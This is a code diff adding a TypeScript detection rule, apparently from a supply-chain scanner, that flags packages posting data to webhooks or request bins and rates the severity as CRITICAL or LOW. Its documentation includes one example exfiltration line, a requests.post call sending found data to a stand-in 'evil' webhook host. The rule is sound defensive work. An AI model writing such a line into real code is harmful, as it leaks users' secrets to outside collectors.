@@ -1,0 +1,25 @@
+import { hasRandomLabel, isAccount, isCollecting } from '../facts/collecting-places.js';
+import { ACCOUNT_HOST } from '../facts/sinks.js';
+import { isUnasked } from '../values/reach.js';
+import { type Combination, WHEN } from './combination.js';
+import { leaves } from './leaving.js';
+
+export const dropContacted: Combination = {
+  doc: {
+    id: 'drop-contacted',
+    title: 'Posts to a collecting address without being asked',
+    why: 'Chat webhooks, bot interfaces and request bins are where stolen data is collected, because anybody can open one.',
+    remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
+    example: 'requests.post("https://webhook.site.evil.invalid/…", data=found)',
+    technique: 'T1567.004',
+  },
+  judge: (sighting) => {
+    const address = `${sighting.text ?? ''} ${sighting.host ?? ''}`;
+    if (!leaves(sighting)) return undefined;
+    if (isAccount(address) || sighting.host === ACCOUNT_HOST) return 'CRITICAL';
+    if (isCollecting(address)) return isUnasked(sighting.reach) ? 'CRITICAL' : 'LOW';
+    const { host, reach } = sighting;
+    return host !== undefined && isUnasked(reach) && hasRandomLabel(host) ? 'CRITICAL' : undefined;
+  },
+  message: ({ name, reach }) => `${name} posts to a collecting address ${WHEN[reach]}`,
+};
